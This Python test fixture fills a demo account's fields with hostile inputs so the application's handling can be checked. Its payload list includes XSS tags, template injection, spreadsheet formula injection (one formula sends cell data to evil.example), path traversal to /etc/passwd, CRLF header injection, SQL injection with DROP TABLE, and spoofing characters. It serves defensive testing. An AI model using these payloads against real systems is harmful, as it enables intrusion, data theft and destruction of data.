"""The demo account as an attacker would fill it in: every text an attack, the same ids and counts."""

import re
from dataclasses import replace
from typing import Any
from zlib import crc32

from demo.account.account import Account

Json = dict[str, Any]

PAYLOADS = (
    "<script>alert('pwned')</script>",
    "\"><img src=x onerror=alert('pwned')>",
    "</title></textarea><svg/onload=alert('pwned')>",
    "{{ 7 * 191 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "# Heading\n\n| a | b |\n|---|---|\n> quote\n1. one\n- two\n\n---\n",
    "[click](javascript:alert('pwned')) ![x](https://evil.example/t.png) <https://e.example> @channel :bomb:",
    "`code` **bold** __x__ ~~y~~ \\ ``` &lt;b&gt; &#x3C;script&#x3E;",
    '=HYPERLINK("https://evil.example?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "../../../../../../etc/passwd\x00.html",
    "..\\..\\windows\\system32\\pwned",
    "\x00\x01\x07\x08\x1b[31mred\x1b[0m\x7f\u0085\u2028\u2029",
    "\u202egnp.exe\u202c \u2066\u2067\u2069 \u200b\u200f\ufeff",
    "\r\nSet-Cookie: pwned=1\r\n\r\n",
    "]]><!--<![CDATA[ --!> <?php echo 1 ?> </script>",
    "' OR '1'='1'; DROP TABLE bugs; --",
    "very long " + "x" * 1_000 + " end",
    "<style>*{display:none}</style><iframe srcdoc=\"<script>alert('pwned')</script>\"></iframe>",
)
"""What the texts begin with or are replaced by."""

_CREDENTIALS = frozenset({"username", "password", "access", "environment_test_information", "binary_app"})
_ENUMS = frozenset(
    {"status", "severity", "type", "testing_type", "review_status", "key", "language", "report_language",
     "execution_status", "access_type", "content_type"}
)  # fmt: skip
_TIME = re.compile(r"\d{4}-\d\d-\d\dT")


def hostile(account: Account) -> Account:
    """The account with an attack in every string.

    Ids stay, and so does what must be valid to be counted (statuses, severities, times) in
    most entities; in every seventh of them it is an attack as well. Credentials stay what
    `planted_secrets` says. Reject comments keep their words after the attack.
    """
    return replace(account, change=_attacked)


def _attacked(kind: str, value: Json) -> Json:
    identity = f"{kind}/{value.get('id')}"
    attacked = {key: _value(f"{identity}/{key}", key, one) for key, one in value.items()}
    return attacked | {"<b>unknown</b>\n# field": PAYLOADS[0]}


def _value(place: str, key: str, value: Any) -> Any:
    if key in _CREDENTIALS:
        return value
    if isinstance(value, dict):
        return {inner: _value(f"{place}/{inner}", inner, one) for inner, one in value.items()}
    if isinstance(value, list):
        return [_value(f"{place}/{number}", key, one) for number, one in enumerate(value)]
    return _text(place, key, value) if isinstance(value, str) else value


def _text(place: str, key: str, value: str) -> str:
    drawn = crc32(place.encode())
    payload = PAYLOADS[drawn % len(PAYLOADS)]
    if key in {"id", "feature_id"}:
        return value
    if key in _ENUMS or key.endswith("_at") or _TIME.match(value):
        return payload if drawn % 7 == 0 else value
    if key in {"url", "location"} and drawn % 3 == 0:
        return f"javascript:alert('pwned')//{value}"
    if drawn % 997 == 0:
        payload = "endless" * 7_000
    if key in {"body", "default_comment"} or drawn % 4:
        return payload + value
    return payload
